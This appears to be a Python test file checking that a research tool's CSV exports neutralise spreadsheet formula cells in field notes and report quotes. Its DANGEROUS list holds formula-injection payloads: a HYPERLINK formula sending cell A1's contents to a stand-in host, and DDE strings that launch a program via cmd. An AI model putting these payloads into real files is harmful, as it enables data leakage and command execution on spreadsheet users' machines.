"""CSV files are opened in spreadsheets: a cell that would start a formula is written as text."""

from __future__ import annotations

import csv
import io

from echo_fieldwork.deid import deidentify
from echo_fieldwork.export import runner
from echo_fieldwork.fileutil import spreadsheet_cell
from echo_fieldwork.people.participants import require
from echo_fieldwork.reports import quotes
from echo_fieldwork.reports.registry import build_report
from echo_fieldwork.reports.render import render_csv
from echo_fieldwork.study.study import Study
from tests.exports_helpers import build_focus_group
from tests.reports_fixtures import build_report_study

DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+ cher que prévu", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


def test_notes_csv_neutralises_formula_cells(tmp_path):
    with Study.create(tmp_path / "study", "Étude", "fr", actor="RA1") as study:
        session_id = build_focus_group(study, notes=False)
        for index, text in enumerate(DANGEROUS):
            study.db.execute("INSERT INTO field_notes (session_id, recording_ms, wall_at, question_key, tags, text) "
                             "VALUES (?, ?, '2026-02-03T15:00:00Z', 'intro', ?, ?)",
                             [session_id, 1000 * (index + 1), "=tag" if index == 0 else "", text])
        deidentify.run_detection(study, session_id, use_ner=False)  # notes leave reviewed, like transcripts
        deidentify.mark_reviewed(study, session_id)
        [path] = runner.export_notes(study, [session_id], "csv")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))[1:]
    # Neutralised, and deidentified like any note (the link is a web address).
    assert [row[5] for row in rows] == ["'" + text.replace("http://x.example/", "[adresse web]") for text in DANGEROUS]
    assert rows[0][4] == "'=tag"
    assert [row[2] for row in rows] == ["1000", "2000", "3000", "4000", "5000"]  # numbers stay numbers


def test_report_csv_neutralises_formula_cells(study):
    ids = build_report_study(study)
    quotes.save_quote(study, ids["FG1"], 0, 4000, "=1+1 m’a aidée.", "@lead")
    assert require(study, "P01")
    lines = list(csv.reader(io.StringIO(render_csv(build_report(study, "quotes", "en")))))
    assert lines[1][1:4] == ["'@lead", "[FG1, @lead]", "'=1+1 m’a aidée."]


def test_plain_numbers_and_ordinary_text_are_unchanged():
    assert [spreadsheet_cell(v) for v in ["-2", "+1.5", "12%", "-", "Bonjour", "", 3, None]] == \
        ["-2", "+1.5", "12%", "'-", "Bonjour", "", 3, None]
